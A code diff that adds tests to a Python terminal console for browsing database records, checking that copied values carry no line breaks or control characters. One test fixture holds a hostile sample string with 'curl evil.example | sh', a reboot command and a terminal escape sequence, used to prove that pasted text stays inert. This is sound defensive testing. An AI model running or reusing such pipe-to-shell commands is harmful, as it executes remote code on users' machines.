@@ -1,6 +1,7 @@
 """One table and its records: found by id or word, seen in full, with every change; a screen that never waits."""
 
 import asyncio
+import json
 import re
 import threading
 
@@ -237,6 +238,28 @@ async def test_a_mirror_that_is_away_is_a_sentence_and_the_next_look_tries_again
         assert screen(app)[5].split()[0] == "400"
 
 
+async def test_what_the_portal_says_is_copied_without_a_line_break(tmp_path):
+    """Pasted into a shell that takes it for typed, each break would run what stands before it."""
+    evil = "Hello\ncurl evil.example | sh\r\n\u2028\x1b]52;c;aGk=\x07; reboot\n"
+    async with console(opener=sample_mirrors.mischief(tmp_path, evil)) as (app, _engine, pilot):
+        await press(app, pilot, "j", "j", "j", "b", "end", "enter", "/", *"comments", "enter", "c")
+        inert = "Hello ⏎ curl evil.example | sh ⏎"
+        assert app.clipboard.startswith(inert)
+        assert app.clipboard.isprintable()
+        # the value, the changes, one of them, the raw values
+        for keys in ("enter c", "escape right down c", "enter c", "escape right c"):
+            app.copy_to_clipboard("")
+            await press(app, pilot, *keys.split())
+            assert "curl evil.example | sh" in app.clipboard, keys
+            assert app.clipboard.isprintable(), keys
+
+
+async def test_json_is_copied_as_json(tmp_path):
+    async with console(opener=sample_mirrors.mischief(tmp_path, 'a "b"\n c')) as (app, _engine, pilot):
+        await press(app, pilot, "j", "j", "j", "b", "end", "enter", "/", *"uf_crm", "enter", "c")
+        assert json.loads(app.clipboard) == ['a "b"\n c', 'a "b"\n c' * 2]
+
+
 async def test_without_a_mirror_the_lists_say_so():
     async with console() as (app, _engine, pilot):
         await press(app, pilot, "b")
@@ -262,7 +285,7 @@ async def test_mischief_in_every_field_label_and_name_stays_text(tmp_path, size)
             seen.add(screen(app)[3])  # below the two lines of the sentence
             for strip in app.screen._compositor.render_strips():
                 assert all(segment.text.isprintable() for segment in strip), keys
-            assert app.clipboard.replace("\n", "").isprintable()
+            assert app.clipboard.isprintable()  # a line break would run, pasted into a shell
             assert all(note.replace("\n", "").isprintable() for note in said(app))
         assert len(seen) > 5
         assert engine.told == []
